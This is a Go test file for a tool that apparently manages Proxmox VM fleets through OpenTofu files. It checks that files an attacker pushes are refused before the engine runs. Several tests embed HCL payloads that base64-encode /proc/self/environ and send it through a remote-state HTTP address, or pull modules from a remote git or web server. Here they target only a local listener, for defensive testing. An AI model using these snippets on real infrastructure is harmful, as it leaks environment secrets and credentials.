package scaler_test

import (
	"errors"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/numaform/numaform/generator"
	"github.com/numaform/numaform/internal/ipam"
	"github.com/numaform/numaform/internal/scaler"
	"github.com/numaform/numaform/internal/testenv"
	"github.com/numaform/numaform/modules"
	"github.com/numaform/numaform/state"
	"github.com/numaform/numaform/topology"
)

// listen listens on a local address and counts the connections to it.
func listen(t *testing.T) (address string, connections *atomic.Int32) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	connections = &atomic.Int32{}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			connection, err := l.Accept()
			if err != nil {
				return
			}
			connections.Add(1)
			_ = connection.Close()
		}
	}()
	t.Cleanup(func() {
		_ = l.Close()
		<-done
	})
	return l.Addr().String(), connections
}

// TestModulesOfAPusher pushes node files together with the modules that they call, each
// under the hash of its content. It checks that no engine starts and no connection is
// made.
func TestModulesOfAPusher(t *testing.T) {
	t.Parallel()
	cases := map[string]func(address string) string{
		"a state elsewhere": func(address string) string {
			return "data \"terraform_remote_state\" \"x\" {\n  backend = \"http\"\n  config = { address = \"http://" + address +
				"/${filebase64(\"/proc/self/environ\")}\" }\n}\n"
		},
		"a module of a git server": func(address string) string {
			return "module \"x\" {\n  source = \"git::http://" + address + "/x.git\"\n}\n"
		},
		"a module of a web server": func(address string) string {
			return "module \"x\" {\n  source = \"http://" + address + "/x.zip\"\n}\n"
		},
		"a secret in a description": func(string) string {
			return "locals {\n  stolen = filebase64(\"/proc/self/environ\")\n}\n"
		},
	}
	for name, payload := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			address, connections := listen(t)
			started := filepath.Join(t.TempDir(), "started")
			engine := filepath.Join(t.TempDir(), "tofu")
			must(t, os.WriteFile(engine, []byte("#!/bin/sh\ntouch "+started+"\n"), 0o700))
			victim := vm(pve1, 2000)
			s := newScaler(t, func(c *scaler.Config) { c.Engine = &state.Engine{Path: engine, Version: "1.9.0"} }, victim)
			change := propose(t, s, snapshot(guestOf(victim)), request(pve2))

			evil := modules.Files()
			evil["proxmox-node/zz.tf"] = []byte(payload(address))
			push(t, s.Store().Path(), victim.Module, evil)
			files, err := s.Store().Files()
			must(t, err)
			node := generator.NodeFile(&victim)
			for what, err := range map[string]error{
				"fleet":   func() error { _, _, err := s.Fleet(t.Context()); return err }(),
				"propose": func() error { _, err := s.Propose(t.Context(), snapshot(), nil, nil); return err }(),
				"drift":   func() error { _, err := s.Drift(t.Context(), snapshot()); return err }(),
				"remove": func() error {
					_, err := s.ProposeRemoval(t.Context(), snapshot(), []string{victim.Name})
					return err
				}(),
				// The change was proposed before the push.
				"apply": func() error { _, err := s.Apply(t.Context(), change, approveAll); return err }(),
			} {
				if err == nil || what != "apply" && !strings.Contains(err.Error(), node+":9: calls modules "+modules.HashOf(evil)) {
					t.Errorf("%s: %v", what, err)
				}
			}
			if _, err := os.Stat(started); err == nil {
				t.Error("the engine was started")
			}
			if connections.Load() > 0 {
				t.Error("the listener was called")
			}
			if after, err := s.Store().Files(); err != nil || cmp.Diff(files, after) != "" {
				t.Errorf("the fleet was written: %v", err)
			}
		})
	}
}

// push adds modules to a fleet's directory, and changes its node files to call them instead
// of the modules with a hash.
func push(t *testing.T, dir, hash string, evil map[string][]byte) {
	t.Helper()
	name := modules.HashOf(evil)
	for file, content := range evil {
		path := filepath.Join(dir, filepath.FromSlash(generator.ModuleFile(name, file)))
		must(t, os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, content, 0o644))
	}
	nodes, err := filepath.Glob(filepath.Join(dir, "*", "*", "node-*.tf"))
	must(t, err)
	for _, node := range nodes {
		content, err := os.ReadFile(node)
		must(t, err, os.WriteFile(node, []byte(strings.ReplaceAll(string(content), hash, name)), 0o644))
	}
}

// TestWorkOfAPusher pushes files to the directories in which older versions ran the engine
// and kept modules. It checks that a node is still created and that none of the files is
// read.
func TestWorkOfAPusher(t *testing.T) {
	t.Parallel()
	address, connections := listen(t)
	thief := "data \"terraform_remote_state\" \"x\" {\n  backend = \"http\"\n  config = { address = \"http://" + address +
		"/${filebase64(\"/proc/self/environ\")}\" }\n}\n"
	w := newWorld(t)
	host := topology.HostID{Region: testenv.Region, Host: "pve-1"}
	dir := w.Store().Path()
	plant := func() {
		t.Helper()
		root := filepath.Join(dir, ".numaform", "work")
		for _, name := range []string{
			"zz.tf", "node-workers-2000_override.tf", "terraform.tfvars", "zz.auto.tfvars", ".terraformrc", "main.tofu",
			".terraform/modules/modules.json", ".terraform/terraform.tfstate", ".terraform/environment",
		} {
			path := filepath.Join(root, string(host.Region), string(host.Host), name)
			must(t, os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(thief), 0o644))
		}
		for _, module := range modules.Names() {
			path := filepath.Join(root, "modules", module, modules.Hash(), "zz.tf")
			must(t, os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(thief), 0o644))
		}
	}
	plant()
	wanted := request(host)
	wanted.Spec.Template = testenv.Template
	change := propose(t, w.Scaler, w.snapshot(t), wanted)
	if _, err := w.Plan(t.Context(), change); err != nil {
		t.Fatal(err)
	}
	if _, err := w.Apply(t.Context(), change, approveAll); err != nil {
		t.Fatal(err)
	}
	w.exist(t, 2000)
	plant()
	// A change without requests plans the whole host.
	if _, err := w.Apply(t.Context(), propose(t, w.Scaler, w.snapshot(t)), approveAll); err != nil {
		t.Fatal(err)
	}
	if connections.Load() > 0 {
		t.Error("the listener was called")
	}
	planted := filepath.Join(dir, ".numaform", "work", string(host.Region), string(host.Host), "zz.tf")
	if content, err := os.ReadFile(planted); err != nil || string(content) != thief {
		t.Errorf("the planted file was touched: %v", err)
	}
	for _, name := range []string{"zz.tf", "main.tofu"} {
		if _, err := os.Stat(filepath.Join(dir+"-state", "work", string(host.Region), string(host.Host), name)); err == nil {
			t.Errorf("%s is where the engine works", name)
		}
	}
}

// TestWorkIsRestored writes files to the engine's directory between an approved plan and
// its apply, and before the next plan: they are removed before the engine reads them.
func TestWorkIsRestored(t *testing.T) {
	t.Parallel()
	address, connections := listen(t)
	thief := "data \"terraform_remote_state\" \"x\" {\n  backend = \"http\"\n  config = { address = \"http://" + address + "/\" }\n}\n"
	w := newWorld(t)
	host := topology.HostID{Region: testenv.Region, Host: "pve-1"}
	work := filepath.Join(w.Store().Path()+"-state", "work")
	tampered := 0
	tamper := func([]scaler.RootPlan) (string, error) {
		tampered++
		for _, dir := range []string{
			filepath.Join(string(host.Region), string(host.Host)), filepath.Join("modules", modules.NodeModule, modules.Hash()),
		} {
			if err := os.WriteFile(filepath.Join(work, dir, "zz.tf"), []byte(thief), 0o600); err != nil {
				return "", err
			}
			if err := os.WriteFile(filepath.Join(work, dir, "main.tf"), []byte(thief), 0o600); err != nil {
				return "", err
			}
		}
		return "", nil
	}
	for range 2 {
		wanted := request(host)
		wanted.Spec.Template = testenv.Template
		if _, err := w.Apply(t.Context(), propose(t, w.Scaler, w.snapshot(t), wanted), tamper); err != nil {
			t.Fatal(err)
		}
	}
	w.exist(t, 2000, 2001)
	if tampered != 2 || connections.Load() > 0 {
		t.Errorf("tampered %d times, the listener was called %d times", tampered, connections.Load())
	}
	if _, err := os.Stat(filepath.Join(work, string(host.Region), string(host.Host), "zz.tf")); err == nil {
		t.Error("the file is still there after the apply")
	}
}

// TestStateLostIsReported deletes a state: the dry run and the apply report this, and the
// apply imports the VM.
func TestStateLostIsReported(t *testing.T) {
	t.Parallel()
	host := topology.HostID{Region: testenv.Region, Host: "pve-1"}
	var said []string
	w := newWorldWith(t, func(c *scaler.Config) {
		c.Progress = func(_ topology.HostID, message string) { said = append(said, message) }
	})
	wanted := request(host)
	wanted.Spec.Template = testenv.Template
	if _, err := w.Apply(t.Context(), propose(t, w.Scaler, w.snapshot(t), wanted), approveAll); err != nil {
		t.Fatal(err)
	}
	must(t, os.RemoveAll(w.Store().Path()+"-state"))
	for _, run := range []func() error{
		func() error { _, err := w.Plan(t.Context(), propose(t, w.Scaler, w.snapshot(t))); return err },
		func() error {
			_, err := w.Apply(t.Context(), propose(t, w.Scaler, w.snapshot(t)), approveAll)
			return err
		},
	} {
		said = nil
		must(t, run())
		if text := strings.Join(said, "\n"); !strings.Contains(text, "no state exists in "+w.Store().Path()+"-state/states") ||
			!strings.Contains(text, "Proxmox has 1 VM of the fleet: numaform imports the VMs by their markers") {
			t.Errorf("said %s", text)
		}
	}
	w.exist(t, 2000)
	said = nil
	if _, err := w.Apply(t.Context(), propose(t, w.Scaler, w.snapshot(t)), approveAll); err != nil {
		t.Fatal(err)
	}
	if text := strings.Join(said, "\n"); strings.Contains(text, "no state exists") {
		t.Errorf("said %s", text)
	}
}

// TestAddressesOfAPusher pushes the file of a VM that does not exist yet, with a static
// address, gateway or DNS server that numaform did not choose. It checks that the VM is not
// created, with the real engine, and that the file that numaform would write is accepted.
func TestAddressesOfAPusher(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	host := topology.HostID{Region: testenv.Region, Host: "pve-1"}
	read := func() *topology.Snapshot {
		s := withPool(t, w.snapshot(t), ipam.Config{
			Subnet: "192.168.1.0/24", Ranges: []string{"192.168.1.100-192.168.1.199"}, Gateway: "192.168.1.1", DNSServers: []string{"192.168.1.2"},
		})
		s.Host(host).Addresses = []string{"192.168.1.120"}
		return s
	}
	wanted := addressed(host)
	wanted.Spec.Template = testenv.Template
	files := propose(t, w.Scaler, read(), wanted).AfterFiles
	for _, test := range []struct{ name, old, replacement, want string }{
		{"the gateway's address", "192.168.1.100/24", "192.168.1.1/24", "net0 has the address 192.168.1.1/24, which address pool \"nodes\" does not assign"},
		{"an address outside the pool", "192.168.1.100/24", "10.0.0.7/24", "which address pool \"nodes\" does not assign"},
		{"the address of a host", "192.168.1.100/24", "192.168.1.120/24", "net0 has the address 192.168.1.120 of host pve-1"},
		{"another gateway", `"192.168.1.1"`, `"192.168.1.66"`, "with another prefix length, gateway, DNS server or search domain"},
		{"nothing", "192.168.1.100/24", "192.168.1.100/24", ""},
	} {
		for name, content := range files {
			path := filepath.Join(w.Store().Path(), filepath.FromSlash(name))
			edited := strings.ReplaceAll(string(content), test.old, test.replacement)
			if test.want != "" && strings.Contains(name, "/node-") && edited == string(content) {
				t.Fatalf("%s: %s does not contain %s:\n%s", test.name, name, test.old, content)
			}
			must(t, os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(edited), 0o644))
		}
		change, err := w.Propose(t.Context(), read(), nil, nil)
		if err == nil {
			_, err = w.Apply(t.Context(), change, approveAll)
		}
		if test.want == "" {
			must(t, err)
			w.exist(t, 2000)
			continue
		}
		if denied, ok := errors.AsType[*scaler.DeniedError](err); !ok || !strings.Contains(denied.Error(), test.want) {
			t.Errorf("%s: %v, want %q", test.name, err, test.want)
		}
		w.exist(t)
	}
}
